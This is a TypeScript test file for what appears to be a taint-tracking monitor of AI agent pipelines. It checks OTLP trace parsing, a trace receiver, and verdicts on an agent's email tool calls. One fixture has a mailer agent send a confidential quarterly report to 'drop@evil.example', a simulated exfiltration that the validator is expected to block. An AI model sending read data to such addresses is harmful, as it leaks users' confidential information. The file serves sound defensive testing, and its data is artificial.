/**
 * OTLP spans of the pipeline: the JSON export reader and the GenAI reading of spans (current
 * `gen_ai.input/output.messages` and legacy indexed attributes), the OTLP/HTTP receiver over real
 * HTTP (JSON, protobuf, gzip, unknown keys), and the taint validator on an OTLP-only trace:
 * `toolCallId` is the span's gen_ai.tool.call.id, an orphan span is a provenance gap.
 */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { gzipSync } from 'node:zlib';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { genAiView, parseOtlpJson, startOtlpReceiver, type OtlpReceiver } from '../../src/otlp/index.js';
import { decodeOtlpProtobuf } from '../../src/otlp/protobuf.js';
import { validateTrace } from '../../src/taint/validate-trace.js';
import { buildTraceGraph } from '../../src/taint/trace-graph.js';
import { adjudicateTrace } from '../../src/taint/adjudicate.js';
import { defaultPolicy } from '../../src/taint/policy.js';
import { attributionPath, propagate } from '../../src/taint/propagate.js';
import type { ProxyCall } from '../../src/runlog/schema.js';
import type { ToolEvent } from '../../src/benchmarks/agentic/agentic.js';
import { silentLog } from '../../src/util/log.js';

type Attr = { key: string; value: Record<string, unknown> };
const s = (key: string, v: string): Attr => ({ key, value: { stringValue: v } });
const TRACE = '5b8efff798038103d269b633813fc60c';
const NS = (ms: number) => String(BigInt(Date.parse('2026-05-09T10:00:00Z') + ms) * 1000000n);

interface SpanIn {
  id: string;
  parent?: string;
  name: string;
  start: number;
  attrs: Attr[];
}
const span = (x: SpanIn) => ({
  traceId: TRACE,
  spanId: x.id,
  ...(x.parent ? { parentSpanId: x.parent } : {}),
  name: x.name,
  kind: 1,
  startTimeUnixNano: NS(x.start),
  endTimeUnixNano: NS(x.start + 40),
  attributes: x.attrs,
});
const request = (spans: SpanIn[]) => ({
  resourceSpans: [
    { resource: { attributes: [s('service.name', 'agents')] }, scopeSpans: [{ scope: { name: 'genai' }, spans: spans.map(span) }] },
  ],
});
const msgs = (m: unknown[]) => JSON.stringify(m);

const ROOT = 'Summarise the Q3 report in /data/q3.txt for the team and mail it to team@corp.example.';
const REPORT = 'Q3 revenue was 4.2M EUR with a margin of 31 percent; the Falcon acquisition closes in November for 18M EUR.';

/** planner reads the report and hands a summary to mailer, which mails it to `to`. */
function pipelineSpans(to: string, opts: { orphanMail?: boolean } = {}): SpanIn[] {
  return [
    {
      id: 'a000000000000001',
      name: 'invoke_agent planner',
      start: 0,
      attrs: [
        s('gen_ai.operation.name', 'invoke_agent'),
        s('gen_ai.agent.name', 'planner'),
        s('gen_ai.input.messages', msgs([{ role: 'user', parts: [{ type: 'text', content: ROOT }] }])),
      ],
    },
    {
      id: 'a000000000000002',
      parent: 'a000000000000001',
      name: 'chat qwen',
      start: 10,
      attrs: [
        s('gen_ai.operation.name', 'chat'),
        s('gen_ai.agent.name', 'planner'),
        s('gen_ai.input.messages', msgs([{ role: 'user', parts: [{ type: 'text', content: ROOT }] }])),
        s(
          'gen_ai.output.messages',
          msgs([
            { role: 'assistant', parts: [{ type: 'tool_call', id: 'call_1', name: 'read_file', arguments: { path: '/data/q3.txt' } }] },
          ]),
        ),
      ],
    },
    {
      id: 'a000000000000003',
      parent: 'a000000000000001',
      name: 'execute_tool read_file',
      start: 60,
      attrs: [
        s('gen_ai.operation.name', 'execute_tool'),
        s('gen_ai.tool.name', 'read_file'),
        s('gen_ai.tool.call.id', 'call_1'),
        s('gen_ai.tool.call.arguments', '{"path":"/data/q3.txt"}'),
        s('gen_ai.tool.call.result', REPORT),
      ],
    },
    {
      id: 'a000000000000004',
      parent: 'a000000000000001',
      name: 'chat qwen',
      start: 110,
      attrs: [
        s('gen_ai.operation.name', 'chat'),
        s('gen_ai.agent.name', 'planner'),
        s(
          'gen_ai.input.messages',
          msgs([
            { role: 'user', parts: [{ type: 'text', content: ROOT }] },
            { role: 'tool', parts: [{ type: 'tool_call_response', id: 'call_1', response: REPORT }] },
          ]),
        ),
        s(
          'gen_ai.output.messages',
          msgs([{ role: 'assistant', parts: [{ type: 'text', content: `Handing over to the mailer. ${REPORT}` }] }]),
        ),
      ],
    },
    {
      id: 'a000000000000005',
      parent: opts.orphanMail ? 'ffffffffffffffff' : 'a000000000000001',
      name: 'invoke_agent mailer',
      start: 160,
      attrs: [s('gen_ai.operation.name', 'invoke_agent'), s('gen_ai.agent.name', 'mailer')],
    },
    {
      id: 'a000000000000006',
      parent: 'a000000000000005',
      name: 'chat qwen',
      start: 170,
      attrs: [
        // Legacy indexed attributes (OpenLLMetry style).
        s('gen_ai.agent.name', 'mailer'),
        s('gen_ai.prompt.0.role', 'user'),
        s('gen_ai.prompt.0.content', opts.orphanMail ? 'Mail the quarterly note now.' : `Mail this to the team: ${REPORT}`),
        s('gen_ai.completion.0.role', 'assistant'),
        s('gen_ai.completion.0.tool_calls.0.id', 'call_9'),
        s('gen_ai.completion.0.tool_calls.0.name', 'send_email'),
        s(
          'gen_ai.completion.0.tool_calls.0.arguments',
          JSON.stringify({ to, body: opts.orphanMail ? 'Quarterly note attached for your review today.' : REPORT }),
        ),
      ],
    },
    {
      id: 'a000000000000007',
      parent: 'a000000000000005',
      name: 'execute_tool send_email',
      start: 220,
      attrs: [
        s('gen_ai.tool.name', 'send_email'),
        s('gen_ai.tool.call.id', 'call_9'),
        s(
          'gen_ai.tool.call.arguments',
          JSON.stringify({ to, body: opts.orphanMail ? 'Quarterly note attached for your review today.' : REPORT }),
        ),
        s('gen_ai.tool.call.result', 'sent'),
      ],
    },
  ];
}

describe('reading OTLP JSON', () => {
  it('reads one export, a list of them, or JSON lines, with attributes as plain values', () => {
    const doc = request(pipelineSpans('team@corp.example'));
    const one = parseOtlpJson(JSON.stringify(doc), 'x.json');
    expect(one).toHaveLength(7);
    expect(one[0]).toMatchObject({ traceId: TRACE, spanId: 'a000000000000001', name: 'invoke_agent planner', service: 'agents' });
    expect(one[1].parentSpanId).toBe('a000000000000001');
    expect(one[1].endMs - one[1].startMs).toBe(40);
    expect(parseOtlpJson(JSON.stringify([doc, doc]), 'x.json')).toHaveLength(14);
    expect(parseOtlpJson(`${JSON.stringify(doc)}\n${JSON.stringify(doc)}\n`, 'x.jsonl')).toHaveLength(14);
    expect(() => parseOtlpJson('{"spans": []}', 'x.json')).toThrow(/x\.json: not an OTLP trace export/);
  });

  it('reads GenAI spans: operations, agents, tool calls and messages, current and legacy names', () => {
    const views = parseOtlpJson(JSON.stringify(request(pipelineSpans('team@corp.example'))), 'x.json').map(genAiView);
    expect(views.map((v) => v.op)).toEqual(['invoke_agent', 'chat', 'execute_tool', 'chat', 'invoke_agent', 'chat', 'execute_tool']);
    expect(views[0].input[0]).toMatchObject({ role: 'user', text: ROOT });
    expect(views[1].output[0].toolCalls).toEqual([{ id: 'call_1', name: 'read_file', arguments: '{"path":"/data/q3.txt"}' }]);
    expect(views[2]).toMatchObject({
      tool: 'read_file',
      toolCallId: 'call_1',
      toolArguments: { path: '/data/q3.txt' },
      toolResult: REPORT,
    });
    expect(views[3].input[1]).toMatchObject({ role: 'tool', responseTo: ['call_1'], text: REPORT });
    expect(views[5].input[0].text).toMatch(/^Mail this to the team/);
    expect(views[5].output[0].toolCalls[0]).toMatchObject({ id: 'call_9', name: 'send_email' });
    // The operation is read from the span name when the attribute is missing.
    expect(views[6]).toMatchObject({ op: 'execute_tool', tool: 'send_email', toolCallId: 'call_9' });
  });
});

describe('log events of the event-based GenAI conventions', () => {
  it('are joined to their span from a file holding traces and logs, messages read from the body', () => {
    const chat = { id: 'c000000000000001', name: 'chat gpt', start: 0, attrs: [s('gen_ai.operation.name', 'chat')] };
    const log = (name: string, body: unknown, spanId = chat.id) => ({
      timeUnixNano: NS(1),
      traceId: TRACE,
      spanId,
      body: {
        kvlistValue: {
          values: Object.entries(body as Record<string, unknown>).map(([key, v]) => ({
            key,
            value:
              typeof v === 'string'
                ? { stringValue: v }
                : {
                    kvlistValue: {
                      values: Object.entries(v as Record<string, string>).map(([k2, v2]) => ({ key: k2, value: { stringValue: v2 } })),
                    },
                  },
          })),
        },
      },
      attributes: [s('event.name', name)],
    });
    const logs = {
      resourceLogs: [
        {
          scopeLogs: [
            {
              scope: { name: '@opentelemetry/instrumentation-openai' },
              logRecords: [
                log('gen_ai.user.message', { content: ROOT }),
                log('gen_ai.choice', { finish_reason: 'stop', message: { content: 'Done.' } }),
                log('gen_ai.user.message', { content: 'lost' }, 'ffffffffffffffff'),
              ],
            },
          ],
        },
      ],
    };
    const file = `${JSON.stringify(request([chat]))}\n${JSON.stringify(logs)}\n`;
    const [span] = parseOtlpJson(file, 'both.jsonl');
    expect(span.events?.map((e) => e.name)).toEqual(['gen_ai.user.message', 'gen_ai.choice']);
    const view = genAiView(span);
    expect(view.input.map((m) => [m.role, m.text])).toEqual([['user', ROOT]]);
    expect(view.output.map((m) => m.text)).toEqual(['Done.']);
    expect(() => parseOtlpJson(JSON.stringify(logs), 'logs-only.json')).toThrow(/logs-only\.json: not an OTLP trace export/);
  });
});

describe('validate on an OTLP export', () => {
  const dir = mkdtempSync(path.join(tmpdir(), 'sab-otlp-'));
  const write = (name: string, spans: SpanIn[]) => {
    const file = path.join(dir, name);
    writeFileSync(file, JSON.stringify(request(spans)));
    return file;
  };

  it('blocks a mail of the report to an outside address, keyed by gen_ai.tool.call.id', async () => {
    const r = await validateTrace({ traceFile: write('out.json', pipelineSpans('drop@evil.example')), format: 'json' });
    expect(r.exitCode).toBe(1);
    const { sinks } = JSON.parse(r.text);
    expect(sinks).toHaveLength(1);
    expect(sinks[0]).toMatchObject({ toolCallId: 'call_9', tool: 'send_email', agent: 'mailer', decision: 'block' });
    expect(sinks[0].labels).toEqual(expect.arrayContaining(['SENSITIVE_READ', 'EXTERNAL_SEND']));
    expect(sinks[0].path.map((p: { node: string }) => p.node)[0]).toBe('span:a000000000000003');
  });

  it('releases it to the address the request names (exit code 0)', async () => {
    const r = await validateTrace({ traceFile: write('ok.json', pipelineSpans('team@corp.example')), format: 'json' });
    expect(JSON.parse(r.text).sinks[0].decision).toBe('release');
    expect(r.exitCode).toBe(0);
  });

  it('reports a tool call under a span that is not in the export as unverifiable', async () => {
    const r = await validateTrace({
      traceFile: write('orphan.json', pipelineSpans('team@corp.example', { orphanMail: true })),
      format: 'md',
    });
    expect(r.exitCode).toBe(1);
    expect(r.text).toMatch(/\| call_9 \| send_email \| mailer \| unverifiable \|/);
    expect(r.text).toMatch(/1 staged sink: 0 released, 0 blocked, 1 unverifiable/);
  });
});

describe('spans joined with what saboteur recorded', () => {
  it('a delegation only the spans show connects an otherwise unverifiable sink to the request', () => {
    const at = (ms: number) => new Date(Date.parse('2026-05-09T10:00:00Z') + ms).toISOString();
    const body = 'Quarterly note: figures are on track, details in the shared folder.';
    const args = { to: 'team@corp.example', body };
    const mailerCall: ProxyCall = {
      id: 'p1',
      agent: 'mailer',
      agentSource: 'header',
      endpoint: 'chat.completions',
      agentCallIndex: 0,
      startedAt: at(170),
      durationMs: 30,
      stream: false,
      status: 200,
      request: { messages: [{ role: 'user', content: 'Mail the quarterly note now.' }] },
      response: { content: '', toolCalls: [{ id: 'call_9', name: 'send_email', arguments: JSON.stringify(args) }] },
    };
    const event: ToolEvent = {
      id: 's2:1',
      tool: 'send_email',
      agent: 'mailer',
      arguments: args,
      result: 'sent',
      isError: false,
      startedAt: at(221),
      durationMs: 5,
      staged: { sinks: ['EXTERNAL_SEND'], decision: 'release', defense: 'none' },
    };
    const input = {
      root: ROOT,
      calls: [mailerCall],
      tools: [event],
      toolSpecs: [{ name: 'send_email', sinks: ['EXTERNAL_SEND' as const] }],
    };
    expect(adjudicateTrace(buildTraceGraph(input, defaultPolicy()), defaultPolicy())[0].decision).toBe('unverifiable');

    const spans = parseOtlpJson(
      JSON.stringify(
        request([
          { id: 'a000000000000001', name: 'invoke_agent planner', start: 0, attrs: [s('gen_ai.agent.name', 'planner')] },
          {
            id: 'a000000000000005',
            parent: 'a000000000000001',
            name: 'invoke_agent mailer',
            start: 160,
            attrs: [s('gen_ai.agent.name', 'mailer')],
          },
          {
            id: 'a000000000000006',
            parent: 'a000000000000005',
            name: 'chat qwen',
            start: 170,
            attrs: [
              s(
                'gen_ai.output.messages',
                msgs([{ role: 'assistant', parts: [{ type: 'tool_call', id: 'call_9', name: 'send_email', arguments: args }] }]),
              ),
            ],
          },
          {
            id: 'a000000000000007',
            parent: 'a000000000000005',
            name: 'execute_tool send_email',
            start: 220,
            attrs: [s('gen_ai.tool.call.id', 'call_9'), s('gen_ai.tool.call.arguments', JSON.stringify(args))],
          },
        ]),
      ),
      'spans.json',
    );
    const built = buildTraceGraph({ ...input, spans }, defaultPolicy());
    // The chat span is the proxy call and the execute_tool span is the tool event: no duplicates.
    expect(built.graph.n).toBe(1 + 1 + 1 + 2);
    const [v] = adjudicateTrace(built, defaultPolicy());
    expect(v.decision).toBe('release');
    // The mailer's LLM call reaches the request through the span tree.
    const issuer = built.sinks[0].issuedBy!;
    expect(attributionPath(built.graph, propagate(built.graph), issuer, 'ROOT').map((p) => p.node)).toEqual([
      'root',
      'span:a000000000000001',
      'span:a000000000000005',
      'call:p1',
    ]);
  });
});

// A minimal protobuf writer for the test: the receiver must read what Python's OTLP exporter sends.
function varint(n: bigint): number[] {
  const out: number[] = [];
  let v = BigInt.asUintN(64, n);
  do {
    let b = Number(v & 0x7fn);
    v >>= 7n;
    if (v) b |= 0x80;
    out.push(b);
  } while (v);
  return out;
}
const tag = (field: number, wire: number) => varint(BigInt((field << 3) | wire));
const bytesField = (field: number, data: Uint8Array | number[]) => [...tag(field, 2), ...varint(BigInt(data.length)), ...data];
const strField = (field: number, v: string) => bytesField(field, [...Buffer.from(v, 'utf8')]);
const fixed64 = (field: number, v: bigint) => {
  const b = Buffer.alloc(8);
  b.writeBigUInt64LE(v);
  return [...tag(field, 1), ...b];
};
const kv = (k: string, v: string | number) =>
  bytesField(9, [...strField(1, k), ...bytesField(2, typeof v === 'string' ? strField(1, v) : [...tag(3, 0), ...varint(BigInt(v))])]);
function protoRequest(): Buffer {
  const spanBytes = [
    ...bytesField(1, [...Buffer.from(TRACE, 'hex')]),
    ...bytesField(2, [...Buffer.from('b000000000000001', 'hex')]),
    ...strField(5, 'execute_tool send_email'),
    ...fixed64(7, 1778320800000000000n),
    ...fixed64(8, 1778320800040000000n),
    ...kv('gen_ai.tool.name', 'send_email'),
    ...kv('gen_ai.tool.call.id', 'call_p'),
    ...kv('retries', -2),
    ...[...tag(99, 0), ...varint(7n)], // an unknown field is skipped
  ];
  const scopeSpans = [...bytesField(1, strField(1, 'genai')), ...bytesField(2, spanBytes)];
  const resource = bytesField(1, [...strField(1, 'service.name'), ...bytesField(2, strField(1, 'agents'))]);
  return Buffer.from(bytesField(1, [...bytesField(1, resource), ...bytesField(2, scopeSpans)]));
}

describe('the OTLP/HTTP receiver', () => {
  let receiver: OtlpReceiver;
  beforeAll(async () => {
    receiver = await startOtlpReceiver({ log: silentLog });
  });
  afterAll(async () => receiver.stop());

  it('files JSON spans under the invocation whose endpoint they were sent to', async () => {
    const a = receiver.open('sab-a');
    const b = receiver.open('sab-b');
    expect(a).toBe(`${receiver.baseUrl}/sab-a`);
    const res = await fetch(`${a}/v1/traces`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify(request(pipelineSpans('x@y.org').slice(0, 2))),
    });
    expect(res.status).toBe(200);
    expect(await res.json()).toEqual({ partialSuccess: {} });
    const gz = await fetch(`${b}/v1/traces`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'content-encoding': 'gzip' },
      body: gzipSync(JSON.stringify(request(pipelineSpans('x@y.org').slice(2, 3)))),
    });
    expect(gz.status).toBe(200);
    expect(receiver.spans('sab-a').map((x) => x.spanId)).toEqual(['a000000000000001', 'a000000000000002']);
    expect(receiver.close('sab-b').map((x) => x.name)).toEqual(['execute_tool read_file']);
    const late = await fetch(`${b}/v1/traces`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: '{"resourceSpans":[]}',
    });
    expect(late.status).toBe(404);
    expect((await late.json()).message).toMatch(/unknown or finished invocation "sab-b"/);
  });

  it('decodes protobuf bodies (the default of most OpenTelemetry SDKs)', async () => {
    const url = receiver.open('sab-p');
    const res = await fetch(`${url}/v1/traces`, {
      method: 'POST',
      headers: { 'content-type': 'application/x-protobuf' },
      body: new Uint8Array(protoRequest()),
    });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/x-protobuf');
    const [sp] = receiver.close('sab-p');
    expect(sp).toMatchObject({
      traceId: TRACE,
      spanId: 'b000000000000001',
      name: 'execute_tool send_email',
      startMs: 1778320800000,
      endMs: 1778320800040,
      service: 'agents',
    });
    expect(sp.attributes).toEqual({ 'gen_ai.tool.name': 'send_email', 'gen_ai.tool.call.id': 'call_p', retries: -2 });
    expect(() => decodeOtlpProtobuf(Buffer.from([0x0a, 0x05, 0x01]))).toThrow(
      /not an OTLP ExportTraceServiceRequest in protobuf: length-delimited field runs past its message/,
    );
  });

  it('answers bad requests with what to send instead', async () => {
    const url = receiver.open('sab-bad');
    const wrong = await fetch(`${url}/v1/traces`, { method: 'POST', headers: { 'content-type': 'text/plain' }, body: 'hi' });
    expect(wrong.status).toBe(415);
    expect((await wrong.json()).message).toMatch(/application\/json or application\/x-protobuf/);
    const notOtlp = await fetch(`${url}/v1/traces`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: '{"spans":[]}',
    });
    expect(notOtlp.status).toBe(400);
    const route = await fetch(`${receiver.baseUrl}/v1/metrics`, { method: 'POST', body: '{}' });
    expect(route.status).toBe(404);
    receiver.close('sab-bad');
  });
});
